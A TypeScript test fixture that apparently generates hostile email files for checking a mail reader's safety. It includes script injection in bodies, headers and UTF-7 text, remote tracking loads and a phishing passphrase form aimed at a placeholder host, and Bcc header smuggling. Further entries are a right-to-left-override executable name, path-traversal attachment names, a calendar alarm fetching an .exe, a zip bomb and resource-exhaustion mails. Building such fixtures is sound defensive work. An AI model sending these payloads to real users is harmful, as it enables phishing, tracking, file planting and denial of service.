/** Mails of endless depth and number, that load, that lie about what they are, and that smuggle lines. */
import { deflateSync } from 'node:zlib';
import { joined, latin, noise, zeros } from './bytes.ts';
import { type HostileInput, hostile, REMOTE, SCRIPT } from './input.ts';

const HEAD =
  'From: Somebody <a@example.org>\r\nTo: b@example.org\r\nSubject: Look at this\r\nDate: Fri, 24 Oct 2025 02:16:33 +0400\r\nMIME-Version: 1.0\r\n';
const mail = (rest: string, head = HEAD) => latin(`${head}${rest}`);
const page = (inside: string) =>
  mail(`Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>${inside}</body></html>`);
const parts = (kind: string, ...bodies: readonly string[]) =>
  `Content-Type: multipart/${kind}; boundary="b"\r\n\r\n${bodies.map((body) => `--b\r\n${body}\r\n`).join('')}--b--\r\n`;
const attached = (name: string, body: string, head = '') =>
  `Content-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n${head}\r\n${body}`;

function nestedParts(depth: number): string {
  const open = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\r\n\r\n--b${at}\r\n`,
  ).join('');
  const close = Array.from({ length: depth }, (_, at) => `\r\n--b${depth - at - 1}--\r\n`).join('');
  return `${open}Content-Type: text/plain\r\n\r\ninside${close}`;
}
const nestedMails = (depth: number) =>
  `${`Content-Type: message/rfc822\r\n\r\n${HEAD}`.repeat(depth)}Content-Type: text/plain\r\n\r\ninside\r\n`;

const shown = (name: string, attacks: string, make: () => Uint8Array) =>
  hostile(`mail-${name}.eml`, attacks, 'mail', 'shown', make);
const refused = (name: string, attacks: string, make: () => Uint8Array) =>
  hostile(`mail-${name}.eml`, attacks, 'mail', 'unreadable', make);

export const MAILS: readonly HostileInput[] = [
  shown('script', 'script in the page part', () => page(`<script>${SCRIPT}</script><body onload="${SCRIPT}">`)),
  shown('pixel', 'loading: remote pictures, styles and fonts', () =>
    page(
      `<img src="${REMOTE}/ran.gif"><link rel=stylesheet href="${REMOTE}/ran.css"><style>@import url(${REMOTE}/x)</style><table background="${REMOTE}/ran.png">`,
    ),
  ),
  shown('frames', 'loading: frames and objects', () =>
    page(
      `<iframe src="${REMOTE}/ran"></iframe><object data="cid:x"></object><base href="${REMOTE}/"><meta http-equiv=refresh content="0;url=${REMOTE}/ran">`,
    ),
  ),
  shown('form', 'a form that asks for a passphrase', () =>
    page(`<form action="${REMOTE}/ran"><input name=passphrase autofocus><button>Unlock Daftar</button></form>`),
  ),
  shown('cid', 'script: a picture of its own that is a drawing with a script', () =>
    mail(
      parts(
        'related',
        `Content-Type: text/html\r\n\r\n<img src="cid:a"><iframe src="cid:a">`,
        `Content-Type: image/svg+xml\r\nContent-ID: <a>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"/>`,
      ),
    ),
  ),
  shown('header-script', 'script in subject, names and addresses', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      `From: "<script>${SCRIPT}</script>" <a@example.org>\r\nTo: "<img src=x onerror=${SCRIPT}>" <b@example.org>\r\nSubject: =?utf-8?B?${Buffer.from(`<script>${SCRIPT}</script>`).toString('base64')}?=\r\nX-<b>: </td></table><script>${SCRIPT}</script>\r\n`,
    ),
  ),
  shown('header-name', 'script as the name of a header', () =>
    mail('Content-Type: text/plain\r\n\r\nx', `${HEAD}<script>${SCRIPT.replaceAll(':', '')}</script>: x\r\n`),
  ),
  refused('deep-parts', 'stack: 5000 parts inside each other', () => mail(nestedParts(5000))),
  shown('deep-mails', 'stack: 5000 mails inside each other', () => mail(nestedMails(5000))),
  shown('deep-enough', 'stack: 15 parts inside each other', () => mail(nestedParts(15))),
  shown('parts-4000', 'time: 4000 parts', () =>
    mail(parts('mixed', ...Array.from({ length: 4_000 }, (_, at) => attached(`a${at}.txt`, 'x')))),
  ),
  shown('texts-5000', 'memory: 5000 text parts', () =>
    mail(
      parts('mixed', ...Array.from({ length: 5000 }, () => `Content-Type: text/plain\r\n\r\n${'word '.repeat(20)}`)),
    ),
  ),
  shown('headers-20000', 'time: 20 000 header lines', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      HEAD + 'Received: from a by b; Fri, 24 Oct 2025 02:16:33 +0400\r\n'.repeat(15_000),
    ),
  ),
  refused('header-bomb', 'memory: a header of 5 MB', () =>
    mail('Content-Type: text/plain\r\n\r\nx', `${HEAD}X-Long: ${'a'.repeat(5_000_000)}\r\n`),
  ),
  shown('header-folds', 'time: a header of 100 000 lines', () =>
    mail('Content-Type: text/plain\r\n\r\nx', `${HEAD}X-Long: a${'\r\n a'.repeat(100_000)}\r\n`),
  ),
  shown('recipients', 'time: 40 000 recipients', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      HEAD.replace('b@example.org', Array.from({ length: 30_000 }, (_, at) => `p${at}@example.org`).join(', ')),
    ),
  ),
  shown('groups', 'stack: address groups inside each other', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      HEAD.replace('b@example.org', `${'a:'.repeat(5000)}x@example.org${';'.repeat(5000)}`),
    ),
  ),
  shown('comments', 'stack: comments inside each other', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      HEAD.replace('b@example.org', `${'('.repeat(50_000)}x${')'.repeat(50_000)} b@example.org`),
    ),
  ),
  shown('charset-none', 'decoder: a character set that there is not', () =>
    mail('Content-Type: text/plain; charset="x-ran-<b>"\r\n\r\n\xe9\xff\x00 text'),
  ),
  shown('charset-utf-7', 'script hidden by UTF-7', () =>
    mail(`Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`),
  ),
  shown('words', 'decoder: encoded words that are broken and long', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      HEAD.replace(
        'Look at this',
        `=?utf-8?Q?${'=F0=9F'.repeat(5000)}?= =?x?B?!!!!?= =?utf-8?B?${'A'.repeat(50_000)}?=`,
      ),
    ),
  ),
  shown('injection', 'lines smuggled into the subject', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      HEAD.replace(
        'Look at this',
        `=?utf-8?B?${Buffer.from('Hi\r\nBcc: c@example.org\r\n\r\n<script>').toString('base64')}?=`,
      ),
    ),
  ),
  shown('right-to-left', 'a name that reads backwards', () =>
    mail(
      parts(
        'mixed',
        `Content-Type: text/plain\r\n\r\nx`,
        attached(`=?utf-8?B?${Buffer.from('photo_\u202Egpj.exe').toString('base64')}?=`, 'MZ'),
      ),
    ),
  ),
  shown('attachment-path', 'a name that leaves its folder', () =>
    mail(
      parts(
        'mixed',
        attached('../../../../.config/autostart/ran.desktop', 'x'),
        attached('C:\\\\Windows\\\\ran.exe', 'x'),
        attached('con', 'x'),
        attached('a\tb\0c', 'x'),
      ),
    ),
  ),
  shown('attachment-names', 'a name of 200 000 characters in 2000 pieces', () =>
    mail(
      parts(
        'mixed',
        `Content-Disposition: attachment;${Array.from({ length: 2000 }, (_, at) => `\r\n filename*${at}*=utf-8''${'%41'.repeat(30)}`).join(';')}\r\n\r\nx`,
      ),
    ),
  ),
  shown('base64', 'memory: 2 MB as base64', () =>
    mail(
      parts(
        'mixed',
        attached(
          'a.bin',
          noise(1_500_000, 'mail')
            .toString('base64')
            .replace(/(.{76})/g, '$1\r\n'),
          'Content-Transfer-Encoding: base64\r\n',
        ),
      ),
    ),
  ),
  shown('quoted', 'decoder: soft line ends without an end', () =>
    mail(
      `Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${'=\r\n'.repeat(300_000)}=ZZ=4`,
    ),
  ),
  shown('uuencode', 'decoder: an encoding of old', () =>
    mail(
      `Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 a\r\n${'M'.repeat(60)}\r\nend`,
    ),
  ),
  shown('one-line', 'time: one line of 3 MB', () => mail(`Content-Type: text/plain\r\n\r\n${'long '.repeat(600_000)}`)),
  shown('boundary', 'parts whose mark never comes, or is empty', () =>
    mail(`Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n${'--\r\n'.repeat(10_000)}`),
  ),
  shown('boundaries', 'time: a mark of 50 000 characters', () =>
    mail(
      `Content-Type: multipart/mixed; boundary="${'b'.repeat(50_000)}"\r\n\r\n${`--${'b'.repeat(49_999)}\r\n`.repeat(50)}`,
    ),
  ),
  shown('flowed', 'time: a flowed text of blanks', () =>
    mail(`Content-Type: text/plain; format=flowed; delsp=yes\r\n\r\n${'> '.repeat(20_000)}${' \r\n'.repeat(50_000)}`),
  ),
  shown('tnef', "decoder: an office program's own container", () =>
    mail(
      parts(
        'mixed',
        `Content-Type: application/ms-tnef; name="winmail.dat"\r\nContent-Transfer-Encoding: base64\r\n\r\n${joined([0x78, 0x9f, 0x3e, 0x22], noise(3000, 'tnef')).toString('base64')}`,
      ),
    ),
  ),
  shown('signed', 'decoder: a signed and encrypted mail', () =>
    mail(
      `Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n${noise(4000, 'smime').toString('base64')}`,
    ),
  ),
  shown('calendar', 'an invitation that opens an address', () =>
    mail(
      parts(
        'alternative',
        'Content-Type: text/plain\r\n\r\nx',
        `Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:${REMOTE}/ran.exe\r\nEND:VALARM\r\nEND:VCALENDAR`,
      ),
    ),
  ),
  shown('outside-body', 'a part that lies elsewhere', () =>
    mail(
      parts(
        'mixed',
        `Content-Type: message/external-body; access-type=URL; URL="${REMOTE}/ran"\r\n\r\nContent-Type: text/html\r\n\r\n`,
      ),
    ),
  ),
  shown('archive', 'zip bomb: an attached one', () =>
    mail(
      parts(
        'mixed',
        attached(
          'a.gz',
          deflateSync(zeros(50_000_000), { level: 9 }).toString('base64'),
          'Content-Transfer-Encoding: base64\r\n',
        ),
      ),
    ),
  ),
  shown('receipt', 'a mail that asks for an answer', () =>
    mail(
      'Content-Type: text/plain\r\n\r\nx',
      `${HEAD}Disposition-Notification-To: a@example.org\r\nList-Unsubscribe: <${REMOTE}/ran>\r\nList-Unsubscribe-Post: One-Click\r\n`,
    ),
  ),
  shown('no-body', 'headers and nothing else', () => mail('')),
];
